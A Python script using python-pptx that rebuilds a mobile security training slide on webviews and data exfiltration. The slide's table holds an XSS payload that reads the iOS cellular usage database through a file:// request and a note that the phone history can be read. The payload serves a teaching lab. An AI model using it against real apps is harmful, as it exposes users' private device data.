
from dataclasses import dataclass

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml import parse_xml
from pptx.oxml.ns import nsdecls, qn
from pptx.util import Inches, Pt

NAVY = "002395"
SLATE = "5E6A71"
RULE_GRAY = "D9D9D9"
YELLOW = "FFFF00"


@dataclass(frozen=True)
class Style:
    size: float
    color: str
    font: str = "Arial"
    bold: bool = False
    italic: bool = False


@dataclass(frozen=True)
class Span:
    text: str
    highlight: str = ""


@dataclass(frozen=True)
class Label:
    text: str
    area: tuple[float, float, float, float]
    style: Style
    insets: tuple[float, float, float, float] = (0.1, 0.05, 0.1, 0.05)
    align: PP_ALIGN = PP_ALIGN.LEFT
    anchor: MSO_ANCHOR = MSO_ANCHOR.TOP


@dataclass(frozen=True)
class CellContent:
    spans: tuple[Span, ...]
    style: Style
    align: PP_ALIGN = PP_ALIGN.LEFT
    anchor: MSO_ANCHOR = MSO_ANCHOR.TOP
    top_margin: float = 0.05


HEADING = Style(16, NAVY, bold=True)
ANSWER = Style(16, NAVY)
CODE = Style(14, "0D0B0D", "Courier New")

LABELS = (
    Label("144", (0, 7.28, 0.83, 0.22), Style(9, "A6AFB4")),
    Label("Mobile Security", (2.03, 7.21, 5.8, 0.33), Style(8, "808080", italic=True),
          align=PP_ALIGN.CENTER, anchor=MSO_ANCHOR.MIDDLE),
    Label("Labs", (0.46, 0.21, 9.3, 0.5), Style(24, NAVY),
          insets=(0.1, 0, 0, 0), anchor=MSO_ANCHOR.BOTTOM),
    Label("Webviews and Data Exfiltration", (0.46, 0.73, 9.3, 0.42), Style(18, SLATE),
          insets=(0.12, 0, 0.1, 0)),
)

HEADER_ROW = tuple(
    CellContent((Span(name),), HEADING, PP_ALIGN.CENTER, MSO_ANCHOR.MIDDLE)
    for name in ("Question", "payload", "Result")
)
LAB_ROW = (
    CellContent(
        (Span("If XSS from a privileged context, can we read phone files "
              "and send them to the attacker?"),),
        ANSWER, top_margin=0.3),
    CellContent(
        (Span("<script>a = new XMLHttpRequest(); a.open('GET', "),
         Span("'file:///private/var/wireless/Library/Databases/CellularUsage.db", YELLOW),
         Span("', false); a. send(); alert(a.responseText);</script>")),
        CODE),
    CellContent((Span("Yes! We can read the phone history"),), ANSWER),
)
COLUMN_WIDTHS = (2.52, 4.07, 2.37)
ROW_HEIGHTS = (0.78, 1.92)


def rgb(color: str) -> RGBColor:
    return RGBColor.from_string(color)


def format_run(run, style: Style) -> None:
    run.font.size = Pt(style.size)
    run.font.name = style.font
    run.font.bold = style.bold
    run.font.italic = style.italic
    run.font.color.rgb = rgb(style.color)


def highlight_run(run, color: str) -> None:
    mark = parse_xml(f'<a:highlight {nsdecls("a")}><a:srgbClr val="{color}"/></a:highlight>')
    run.font._element.find(qn("a:solidFill")).addnext(mark)


def draw_label(page, label: Label) -> None:
    box = page.shapes.add_textbox(*map(Inches, label.area))
    frame = box.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = label.anchor
    (frame.margin_left, frame.margin_top,
     frame.margin_right, frame.margin_bottom) = map(Inches, label.insets)
    frame.text = label.text
    para = frame.paragraphs[0]
    para.alignment = label.align
    format_run(para.runs[0], label.style)


def draw_stepped_rule(page, baseline: float) -> None:
    upper = baseline - 0.19
    points = ((0, baseline), (8.82, baseline), (8.97, upper), (10, upper))
    for start, end in zip(points, points[1:]):
        line = page.shapes.add_connector(
            MSO_CONNECTOR.STRAIGHT, *map(Inches, (*start, *end)))
        line.line.color.rgb = rgb(RULE_GRAY)
        line.line.width = Pt(0.75)
        SubElement(line._element.spPr, qn("a:effectLst"))


def border_cell(cell, color: str, width: float) -> None:
    properties = cell._tc.get_or_add_tcPr()
    for index, side in enumerate(("lnL", "lnR", "lnT", "lnB")):
        properties.insert(index, parse_xml(
            f'<a:{side} {nsdecls("a")} w="{Pt(width)}"><a:solidFill>'
            f'<a:srgbClr val="{color}"/></a:solidFill></a:{side}>'))


def fill_cell(cell, content: CellContent) -> None:
    cell.fill.background()
    border_cell(cell, NAVY, 1)
    cell.vertical_anchor = content.anchor
    cell.margin_top = Inches(content.top_margin)
    para = cell.text_frame.paragraphs[0]
    para.alignment = content.align
    for span in content.spans:
        run = para.add_run()
        run.text = span.text
        format_run(run, content.style)
        if span.highlight:
            highlight_run(run, span.highlight)


def draw_lab_table(page) -> None:
    table = page.shapes.add_table(
        len(ROW_HEIGHTS), len(COLUMN_WIDTHS), Inches(0.46), Inches(1.53),
        Inches(sum(COLUMN_WIDTHS)), Inches(sum(ROW_HEIGHTS))).table
    table.first_row = False
    table.horz_banding = False
    for column, width in zip(table.columns, COLUMN_WIDTHS):
        column.width = Inches(width)
    for row, height, contents in zip(table.rows, ROW_HEIGHTS, (HEADER_ROW, LAB_ROW)):
        row.height = Inches(height)
        for cell, content in zip(row.cells, contents):
            fill_cell(cell, content)


def main() -> None:
    deck = Presentation()
    deck.slide_width = Inches(10)
    deck.slide_height = Inches(7.5)
    page = deck.slides.add_slide(deck.slide_layouts[6])
    for baseline in (1.15, 7.26):
        draw_stepped_rule(page, baseline)
    for label in LABELS:
        draw_label(page, label)
    draw_lab_table(page)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
